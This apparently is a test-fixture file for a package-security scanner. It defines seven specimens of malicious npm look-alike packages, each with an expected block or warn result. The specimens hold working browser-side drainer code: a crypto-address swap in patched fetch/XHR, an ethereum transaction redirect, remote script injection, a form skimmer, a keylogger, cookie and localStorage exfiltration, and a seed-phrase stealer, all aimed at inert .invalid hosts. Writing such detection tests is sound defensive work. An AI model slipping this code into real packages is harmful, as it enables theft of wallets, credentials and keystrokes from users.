import { manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'a page whose network and wallet are taken over (chalk, connect-kit, lottie-player, ionicons look-alikes)';

export const specimens: readonly Specimen[] = [
  {
    name: 'drainer-fetch-and-xhr',
    from,
    files: {
      'index.js': `var addresses = ['INERT-ADDRESS'];
function swap(text) {
  return text.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, addresses[0]).replace(/\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/g, addresses[0]).replace(/\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b/g, addresses[0]);
}
if (typeof window !== 'undefined') {
  var realFetch = window.fetch;
  window.fetch = async function () {
    var response = await realFetch.apply(this, arguments);
    return new Response(swap(await response.clone().text()), response);
  };
  var open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (method, url) {
    this.__url = url;
    return open.apply(this, arguments);
  };
  var send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    return send.call(this, typeof body === 'string' ? swap(body) : body);
  };
}
module.exports = function hasColor() { return true; };
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'patches a global' },
  },
  {
    name: 'drainer-ethereum-request',
    from,
    files: {
      'package.json': manifest({ type: 'module', main: 'index.js' }),
      'index.js': `const target = 'INERT-ADDRESS';

async function hook() {
  if (!window.ethereum) return;
  const request = window.ethereum.request.bind(window.ethereum);
  window.ethereum.request = async call => {
    if (call.method === 'eth_sendTransaction') call.params[0].to = target;
    return request(call);
  };
}

if (typeof window !== 'undefined') hook();
export const isEven = n => n % 2 === 0;
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'patches a global' },
  },
  {
    name: 'drainer-injected-script',
    from,
    files: {
      'package.json': manifest({ main: 'dist/player.js' }),
      'dist/player.js': `(function (root) {
  var script = document.createElement('script');
  script.src = 'https://castle.invalid/INERT.js';
  script.async = true;
  document.head.appendChild(script);
  root.Player = function Player(element) { this.element = element; };
})(window);
`,
    },
    expect: 'warn',
  },
  {
    name: 'drainer-form-data',
    from,
    files: {
      'package.json': manifest({ main: 'dist/icons.js' }),
      'dist/icons.js': `$(document).ready(function () {
  $('form').on('submit', function () {
    var data = $(this).serialize();
    $.ajax({ url: 'https://graph.invalid/INERT.php', type: 'POST', data: data });
  });
});
`,
    },
    expect: 'warn',
  },
  {
    name: 'drainer-keystrokes-in-page',
    from,
    files: {
      'package.json': manifest({ module: 'index.mjs', main: 'index.mjs' }),
      'index.mjs': `let typed = '';
document.addEventListener('keydown', event => {
  typed += event.key;
  if (typed.length > 40) {
    navigator.sendBeacon('https://keys.invalid/INERT', typed);
    typed = '';
  }
});
export function formatCard(number) { return number.replace(/(.{4})/g, '$1 '); }
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'captures input' },
  },
  {
    name: 'drainer-storage-sent',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `function collect() {
  const all = {};
  for (let i = 0; i < localStorage.length; i++) {
    const key = localStorage.key(i);
    all[key] = localStorage.getItem(key);
  }
  new Image().src = 'https://pixel.invalid/INERT.gif?d=' + encodeURIComponent(JSON.stringify({ all, cookie: document.cookie }));
}
window.addEventListener('load', collect);
`,
    },
    expect: 'warn',
  },
  {
    name: 'drainer-seed-field',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { axios: '1.7.0' } }),
      'index.js': `import axios from 'axios';
const seen = new Set();
setInterval(() => {
  for (const field of document.querySelectorAll('input[type=password], textarea')) {
    if (field.value.split(' ').length >= 12 && !seen.has(field.value)) {
      seen.add(field.value);
      axios.post('https://seed.invalid/INERT', { value: field.value, cookies: document.cookie });
    }
  }
}, 2000);
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'connects' },
  },
];
